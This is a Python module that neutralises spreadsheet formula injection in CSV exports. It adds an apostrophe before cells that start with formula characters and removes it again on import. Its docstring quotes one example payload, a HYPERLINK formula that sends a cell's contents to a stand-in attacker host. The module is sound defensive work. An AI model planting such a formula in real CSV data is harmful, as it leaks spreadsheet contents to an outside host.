"""Spreadsheet-safe CSV cells: nothing the registry exports can run as a formula.

Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` (also tab,
carriage return or line feed, and the full-width forms of the four) as a formula, so a name such
as `=HYPERLINK("https://evil.example/?"&A1)` in a downloaded CSV would run when the file is
opened (OWASP's "CSV injection"). Export puts an apostrophe before every such cell, and before
any cell that starts with an apostrophe itself, so that the rule can be undone exactly; import
takes that one apostrophe off again. A phone number such as `+1 988` leaves as `'+1 988` and
comes back as `+1 988`.
"""

# What a spreadsheet takes as the start of a formula (docs/api.md, "Formulas in CSV cells").
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
MARK = "'"


def _needs_mark(value: str) -> bool:
    """Return whether a spreadsheet could read value as a formula (or it starts with the mark)."""
    # Some spreadsheets trim spaces before reading a cell: " =1+1" is a formula to them.
    return value[:1] in FORMULA_STARTS or value.lstrip()[:1] in FORMULA_STARTS or value[:1] == MARK


def neutralise(value: str) -> str:
    """Return value as a CSV cell that every spreadsheet opens as text."""
    return MARK + value if _needs_mark(value) else value


def restore(cell: str) -> str:
    """Return the value that neutralise turned into cell (any other cell is returned as it is)."""
    if cell[:1] == MARK and _needs_mark(cell[1:]):
        return cell[1:]
    return cell
